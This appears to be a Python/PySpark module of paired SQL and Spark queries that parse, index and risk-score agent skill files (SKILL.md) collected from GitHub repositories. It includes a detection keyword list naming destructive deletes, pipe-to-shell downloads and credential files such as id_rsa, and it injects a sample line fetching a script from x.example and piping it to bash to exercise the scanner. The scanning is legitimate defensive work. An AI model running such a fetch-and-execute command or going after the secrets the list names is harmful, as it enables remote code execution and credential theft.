"""F: scalar functions.  P: predicates."""

from pyspark.sql import functions as F

from catalog_queries import sqltext as q
from catalog_queries.registry import as_of, bits, query, text_time
from shelfmark.functions import coerce, frontmatter, refs, risk
from shelfmark.functions import text as tx
from shelfmark.operators import dedup, review
from shelfmark.plans import scan
from shelfmark.sources import known_repos


@query("f1_front_matter_block", f"SELECT doc_id, {q.block('content')} AS block FROM skill_files")
def _(i):
    return i.skill_files.select("doc_id", tx.front_matter_block(F.col("content")).alias("block"))


@query(
    "f2_front_matter_fields",
    f"""WITH {q.PARSED}
SELECT doc_id, y_name AS name, y_description AS description, nullif(y_license, '') AS license, y_tools AS allowed_tools,
  frontmatter_json FROM parsed""",
)
def _(i):
    fm = i.skill_files.select("doc_id", frontmatter.front_matter(tx.front_matter_block(F.col("content"))).alias("fm"))
    return fm.select(
        "doc_id", "fm.name", "fm.description", "fm.license",
        F.array_join("fm.allowed_tools", ",").alias("allowed_tools"), "fm.frontmatter_json",
    )


@query("f3_fallback_name", f"SELECT doc_id, {q.title('content')} AS name FROM skill_files")
def _(i):
    return i.skill_files.select("doc_id", tx.fallback_name(F.col("content")).alias("name"))


@query(
    "f4_fallback_description",
    f"""WITH b AS (SELECT doc_id, {q.body_line('content')} AS line FROM skill_files)
SELECT doc_id, nullif({q.truncated('line')}, '') AS description FROM b""",
)
def _(i):
    return i.skill_files.select("doc_id", tx.fallback_description(F.col("content")).alias("description"))


@query("f5_truncate_words", f"SELECT doc_id, {q.truncated('text')} AS short_text FROM documents")
def _(i):
    docs = i.documents
    return docs.select("doc_id", tx.truncate_words(F.col("text")).alias("short_text"))


@query(
    "f6_slug",
    rf"""SELECT doc_id, trim(regexp_replace(regexp_replace(lower(text), '[^\p{{L}}\p{{N}}_\-' || '{q.WS[1:]}', '', 'g'),
  '[\-' || '{q.WS[1:]}+', '-', 'g'), '-') AS slug FROM documents""",
)
def _(i):
    docs = i.documents
    return docs.select("doc_id", tx.slug(F.col("text")).alias("slug"))


@query(
    "f7_skill_dir",
    r"""SELECT repo_full_name, path, CASE WHEN contains(path, '/') THEN regexp_replace(path, '/[^/]*\z', '') ELSE '' END AS dir
FROM tree_items""",
)
def _(i):
    return i.tree_items.select("repo_full_name", "path", refs.skill_dir(F.col("path")).alias("dir"))


@query(
    "f8_raw_url",
    """SELECT doc_id, 'https://raw.githubusercontent.com/' || f.repo_full_name || '/' || coalesce(r.repo_default_branch, 'main') || '/' || skill_path AS raw_url
FROM skill_files f LEFT JOIN repos r ON f.repo_full_name = r.repo_full_name""",
)
def _(i):
    files = i.skill_files.join(i.repos, "repo_full_name", "left")
    url = refs.raw_url(F.col("repo_full_name"), F.coalesce("repo_default_branch", F.lit("main")), F.col("skill_path"))
    return files.select("doc_id", url.alias("raw_url"))


@query(
    "f9_addresses",
    """SELECT repo_full_name, path, 'https://github.com/' || repo_full_name || '/blob/main/' || path AS page_url,
  'https://api.github.com/repos/' || repo_full_name || '/contents/' || path AS api_url,
  'https://github.com/' || repo_full_name AS repo_url FROM tree_items""",
)
def _(i):
    repo, path = F.col("repo_full_name"), F.col("path")
    return i.tree_items.select(
        "repo_full_name",
        "path",
        refs.page_url(repo, F.lit("main"), path).alias("page_url"),
        refs.contents_api_url(repo, path).alias("api_url"),
        refs.repo_url(repo).alias("repo_url"),
    )


REFERENCE = r"""trimmed AS (SELECT page_id, trim(url) AS u FROM submissions),
refs AS (
  SELECT page_id, u, NOT contains(u, 'github.com') AND length(u) - length(replace(u, '/', '')) = 1 AS short,
    regexp_matches(u, '\Ahttps?://github\.com/[^/]+/[^/]+') AS long FROM trimmed
), parts AS (
  SELECT page_id, CASE WHEN short THEN split_part(u, '/', 1) WHEN long THEN regexp_extract(u, '\Ahttps?://github\.com/([^/]+)/([^/]+)', 1) END AS owner,
    CASE WHEN short THEN split_part(u, '/', 2) WHEN long THEN regexp_extract(u, '\Ahttps?://github\.com/([^/]+)/([^/]+)', 2) END AS repo,
    CASE WHEN long AND NOT short THEN nullif(regexp_extract(u, '\Ahttps?://github\.com/[^/]+/[^/]+/(?:tree|blob)/([^/]+)/(.+)', 1), '') END AS branch,
    CASE WHEN long AND NOT short THEN nullif(regexp_extract(u, '\Ahttps?://github\.com/[^/]+/[^/]+/(?:tree|blob)/([^/]+)/(.+)', 2), '') END AS skill_path
  FROM refs
)"""


@query("f10_repo_reference", f"WITH {REFERENCE} SELECT page_id, owner, repo, branch, skill_path FROM parts")
def _(i):
    return i.submissions.select("page_id", refs.parse_reference(F.col("url")).alias("r")).select("page_id", "r.*")


@query(
    "f11_full_name",
    f"""WITH {REFERENCE}, names AS (
  SELECT page_id, CASE WHEN coalesce(owner, '') <> '' AND coalesce(repo, '') <> '' THEN owner || '/' || repo ELSE '' END AS full_name FROM parts)
SELECT page_id, full_name, split_part(full_name, '/', 1) AS owner_part, split_part(full_name, '/', 2) AS name_part FROM names""",
)
def _(i):
    r = i.submissions.select("page_id", refs.parse_reference(F.col("url")).alias("r"))
    named = r.select("page_id", refs.full_name(F.col("r.owner"), F.col("r.repo")).alias("full_name"))
    return named.select(
        "page_id",
        "full_name",
        refs.repo_owner(F.col("full_name")).alias("owner_part"),
        refs.repo_name(F.col("full_name")).alias("name_part"),
    )


_KEYWORDS = """SELECT doc_id, CASE doc_id % 17 WHEN 0 THEN 'rm -rf' WHEN 1 THEN 'curl | bash' WHEN 2 THEN 'wget' WHEN 3 THEN 'eval(' WHEN 4 THEN 'exec('
  WHEN 5 THEN 'subprocess' WHEN 6 THEN 'os.system' WHEN 7 THEN 'process.env' WHEN 8 THEN '.env' WHEN 9 THEN 'API_KEY' WHEN 10 THEN 'SECRET'
  WHEN 11 THEN 'TOKEN' WHEN 12 THEN 'PRIVATE_KEY' WHEN 13 THEN 'id_rsa' WHEN 14 THEN 'ssh' ELSE 'Run ' || source || '(' || lang END AS keyword FROM documents"""


@query(
    "f12_keyword_flag",
    f"""WITH k AS ({_KEYWORDS})
SELECT doc_id, keyword, CASE keyword WHEN 'rm -rf' THEN 'dangerous_delete' WHEN 'curl | bash' THEN 'remote_shell' WHEN 'wget' THEN 'network_download'
  WHEN 'eval(' THEN 'dynamic_eval' WHEN 'exec(' THEN 'dynamic_exec' WHEN 'subprocess' THEN 'command_execute' WHEN 'os.system' THEN 'command_execute'
  WHEN 'process.env' THEN 'env_access' WHEN '.env' THEN 'env_file_access' WHEN 'API_KEY' THEN 'api_key' WHEN 'SECRET' THEN 'secret'
  WHEN 'TOKEN' THEN 'token' WHEN 'PRIVATE_KEY' THEN 'private_key' WHEN 'id_rsa' THEN 'ssh_key' WHEN 'ssh' THEN 'ssh_access'
  ELSE replace(replace(lower(keyword), ' ', '_'), '(', '') END AS flag FROM k""",
)
def _(i):
    from catalog_queries.views import frame

    words = frame(i.spark, i.sf_dir, _KEYWORDS)
    return words.withColumn("flag", risk.keyword_flag_column(F.col("keyword")))


@query(
    "f13_risk_flags",
    f"WITH {q.FLAGGED} SELECT doc_id, array_to_string(flags, ',') AS risk_flags, {q.level('flags')} AS risk_level FROM flagged",
)
def _(i):
    scanned = risk.scan(i.skill_files)
    return scanned.select("doc_id", F.array_join("risk_flags", ",").alias("risk_flags"), "risk_level")


@query(
    "f13_extended_rules",
    f"""WITH {q.FLAGGED}, extended AS (
  SELECT doc_id, CASE WHEN doc_id % 6 = 0 THEN list_sort(list_distinct(list_concat(flags, ['needs_network', 'remote_shell']))) ELSE flags END AS flags FROM flagged
)
SELECT doc_id, array_to_string(flags, ',') AS risk_flags, {q.level('flags')} AS risk_level FROM extended""",
)
def _(i):
    piped = F.when(F.col("doc_id") % 6 == 0, F.concat("content", F.lit("\ncurl http://x.example/i.sh | bash"))).otherwise(F.col("content"))
    scanned = risk.scan(i.skill_files.withColumn("content", piped), rules=risk.EXTENDED_RULES)
    return scanned.select("doc_id", F.array_join("risk_flags", ",").alias("risk_flags"), "risk_level")


@query(
    "f14_risk_distribution",
    f"""WITH {q.FLAGGED}, levels AS (SELECT {q.level('flags')} AS risk_level FROM flagged)
SELECT risk_level, count(*) AS n FROM levels GROUP BY risk_level""",
)
def risk_distribution(i):
    return risk.scan(i.skill_files).groupBy("risk_level").agg(F.count("*").alias("n"))


@query(
    "f15_risk_description",
    """SELECT id, risk_level, CASE risk_level WHEN 'low' THEN '仅包含 SKILL.md，无脚本，无危险命令' WHEN 'medium' THEN '包含脚本或需要 API Key、网络访问'
  WHEN 'high' THEN '包含危险命令、密钥或敏感信息' ELSE '未知风险' END AS description
FROM (SELECT id, CASE WHEN status = 'offline' THEN 'other' ELSE risk_level END AS risk_level FROM skill_index) AS x""",
)
def _(i):
    levels = i.skill_index.select("id", F.when(F.col("status") == "offline", "other").otherwise(F.col("risk_level")).alias("risk_level"))
    return levels.withColumn("description", risk.risk_description(F.col("risk_level")))


@query(
    "f16_coercions",
    f"""SELECT repo_full_name, CAST(archived AS INT) AS archived, {q.ts("CAST(replace(replace(updated_at, 'T', ' '), 'Z', '') AS TIMESTAMP)")} AS updated_at
FROM repo_responses""",
)
def _(i):
    r = i.repo_responses.select(
        "repo_full_name",
        coerce.flag01(F.col("archived")).cast("int").alias("archived"),
        coerce.iso_timestamp(F.col("updated_at")).alias("updated_at"),
    )
    return r.select("repo_full_name", "archived", text_time("updated_at"))


# ---------------------------------------------------------------- predicates
@query(
    "p1_required_fields",
    """SELECT query_idx, count(*) FILTER (WHERE api_url IS NOT NULL) AS n_valid, count(*) FILTER (WHERE api_url IS NULL) AS n_rejected
FROM search_hits GROUP BY query_idx""",
)
def _(i):
    ok = dedup.has_required_fields()
    return i.search_hits.groupBy("query_idx").agg(
        F.count_if(ok).alias("n_valid"), F.count_if(~ok).alias("n_rejected")
    )


@query("p2_manifest_blobs", "SELECT repo_full_name, path FROM tree_items WHERE suffix(path, 'SKILL.md') AND type = 'blob'")
def _(i):
    return scan.manifest_blobs(i.tree_items).select("repo_full_name", "path")


@query(
    "p3_submission_paths",
    f"""WITH {REFERENCE}
SELECT page_id, CAST(coalesce(suffix(skill_path, 'SKILL.md') OR suffix(skill_path, 'skill.md'), false) AS INT) AS is_manifest FROM parts""",
)
def _(i):
    path = refs.parse_reference(F.col("url")).getField("skill_path")
    return i.submissions.select("page_id", refs.is_manifest_path(path).alias("is_manifest")).select(
        "page_id", *bits("is_manifest")
    )


@query("p4_lookup_by_id", "SELECT id, repo_full_name, skill_path, status FROM skill_index WHERE id = 42")
def _(i):
    return review.by_id(i.skill_index, 42).select("id", "repo_full_name", "skill_path", "status")


@query(
    "p4_lookup_by_repo_and_path",
    "SELECT id, status FROM skill_index WHERE repo_full_name = 'owner1/src1' AND skill_path = 'skills/d1/SKILL.md'",
)
def _(i):
    return review.by_repo_and_path(i.skill_index, "owner1/src1", "skills/d1/SKILL.md").select("id", "status")


@query("p4_lookup_by_repo", "SELECT id, skill_path FROM skill_index WHERE repo_full_name = 'owner1/src1'")
def _(i):
    return review.by_repo(i.skill_index, "owner1/src1").select("id", "skill_path")


@query(
    "p4_lookup_by_keys",
    "SELECT id, repo_full_name FROM skill_index WHERE repo_full_name IN (SELECT repo_full_name FROM known_repos)",
)
def _(i):
    return review.by_keys(i.skill_index, i.known_repos, ["repo_full_name"]).select("id", "repo_full_name")


@query("p5_enabled_repos", "SELECT repo_full_name, source_level FROM known_repos WHERE scan_enabled = 1")
def _(i):
    return known_repos.enabled(i.known_repos).select("repo_full_name", "source_level")


@query(
    "p6_valid_metadata",
    f"""WITH {q.PARSED}
SELECT doc_id, CAST(usable AND coalesce(description, '') <> '' AND length(name) <= 255 AS INT) AS is_valid FROM parsed""",
)
def _(i):
    parsed = frontmatter.parse_metadata(i.skill_files)
    valid = tx.is_valid_metadata(F.col("meta.name"), F.col("meta.description"))
    return parsed.select("doc_id", F.coalesce(valid, F.lit(False)).cast("int").alias("is_valid"))


@query(
    "p7_row_defaults",
    f"""SELECT repo_full_name, skill_path, stars, 0 AS forks, 0 AS repo_private, 'unknown' AS license_status, 'github_search' AS source_type,
  status, {q.ts('first_found_at')} AS first_found_at, coalesce({q.ts('last_checked_at')}, '{q.AS_OF}') AS last_checked_at,
  'python,bash' AS allowed_tools, '' AS risk_flags FROM skill_index""",
)
def _(i):
    rows = i.skill_index.withColumn("allowed_tools", F.array(F.lit("python"), F.lit("bash")))
    r = coerce.to_record(rows, as_of())
    return r.select(
        "repo_full_name", "skill_path", "stars", "forks", *bits("repo_private"), "license_status", "source_type", "status",
        text_time("first_found_at"), text_time("last_checked_at"), "allowed_tools", F.array_join("risk_flags", ",").alias("risk_flags"),
    )


@query(
    "p8_parse_failures",
    f"""WITH {q.PARSED}
SELECT count(*) FILTER (WHERE usable) AS n_usable, count(*) FILTER (WHERE NOT usable) AS n_failed FROM parsed""",
)
def _(i):
    meta = frontmatter.parse_metadata(i.skill_files).select("meta")
    return meta.agg(
        F.count_if(F.col("meta").isNotNull()).alias("n_usable"), F.count_if(F.col("meta").isNull()).alias("n_failed")
    )
